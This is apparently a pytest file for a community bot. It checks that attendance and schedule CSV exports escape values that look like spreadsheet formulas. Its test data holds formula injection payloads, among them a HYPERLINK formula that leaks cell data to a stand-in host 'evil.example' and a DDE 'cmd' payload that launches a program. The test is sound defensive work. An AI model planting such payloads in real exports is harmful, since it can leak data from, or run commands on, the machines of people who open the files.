"""CSV formula injection end to end: members whose display names, a session whose title and a
voice channel whose name start like spreadsheet formulas, exported through every CSV the bot
writes (`/attendance export`, `/attendance session`, `workshop-bot export attendance`,
`workshop-bot export schedule --format csv`). Each file is parsed back with the csv module: no cell
reaches a spreadsheet as a formula, and each shows what was typed behind one quote."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from bot.domain.csv_safe import FORMULA_START, is_plain_number, unescape_cell
from tests.features.attendance.attendance_helpers import (
    JST_10,
    answer,
    move,
    person,
    session_channel,
    voice,
)
from tests.features.attendance.test_attendance_reports import run_cli
from tests.world import World

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
NAMES = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx")
SESSION_TITLE = HYPERLINK
ROOM = "-2+3 hangout"


def parse(data: bytes | str) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def live_formulas(rows: list[dict[str, str]]) -> list[str]:
    return [
        cell
        for row in rows
        for cell in row.values()
        if cell and cell[0] in FORMULA_START and not is_plain_number(cell)
    ]


def assert_safe(rows: list[dict[str, str]], column: str, typed: set[str]) -> None:
    assert rows, "the export has rows"
    assert live_formulas(rows) == []
    cells = {row[column] for row in rows}
    assert all(cell.startswith("'") for cell in cells), cells
    assert {unescape_cell(cell) for cell in cells} == typed, "what was typed, behind one quote"


async def test_every_csv_export_neutralizes_formulas(world: World) -> None:
    sb = world.sb
    bot = await world.start_bot()
    session_id, talk = await session_channel(world, bot, SESSION_TITLE)
    await world.run_jobs(JST_10)
    hangout = voice(world, ROOM)
    people = [person(world, f"p{n}", name) for n, name in enumerate(NAMES)]
    await move(world, bot, {p: (talk if n % 2 == 0 else hangout) for n, p in enumerate(people)})
    world.clock.advance(timedelta(minutes=20))
    await move(world, bot, {p: None for p in people[:3]})
    world.clock.advance(timedelta(minutes=5))

    # /attendance export: every stay; display and channel names are members' text.
    result = await sb.invoke(world.guild_id, world.organizer_id, "attendance export")
    await answer(result)
    ((_, data),) = result.followup_files()
    stays = parse(data)
    assert len(stays) == len(NAMES)
    assert_safe(stays, "display_name", set(NAMES))
    assert {r["channel_name"] for r in stays} == {"'" + SESSION_TITLE, "'" + ROOM}
    assert {r["seconds"] for r in stays} == {"1200", "1500"}, "numbers stay numbers"

    # /attendance session: one session's people.
    result = await sb.invoke(
        world.guild_id,
        world.organizer_id,
        "attendance session",
        options={"session": str(session_id)},
        locale="en-US",
    )
    await answer(result)
    files = dict(result.followup_files())
    present = parse(files[f"attendance-session-{session_id}.csv"])
    assert_safe(present, "display_name", set(NAMES[::2]))

    # The CLI, offline: attendance to a file and to stdout, the programme as CSV.
    await world.stop_bot(bot)
    out = world.tmp / "attendance.csv"
    code, _, stderr = await run_cli(
        world, "export", "attendance", "--format", "csv", "--out", str(out)
    )
    assert code == 0, stderr
    assert_safe(parse(out.read_bytes()), "display_name", set(NAMES))
    code, stdout, stderr = await run_cli(world, "export", "attendance", "--format", "csv")
    assert code == 0, stderr
    assert_safe(parse(stdout), "display_name", set(NAMES))

    programme = world.tmp / "programme.csv"
    code, _, stderr = await run_cli(
        world, "export", "schedule", "--format", "csv", "--out", str(programme)
    )
    assert code == 0, stderr
    rows = parse(programme.read_bytes())
    assert_safe(rows, "title", {SESSION_TITLE})
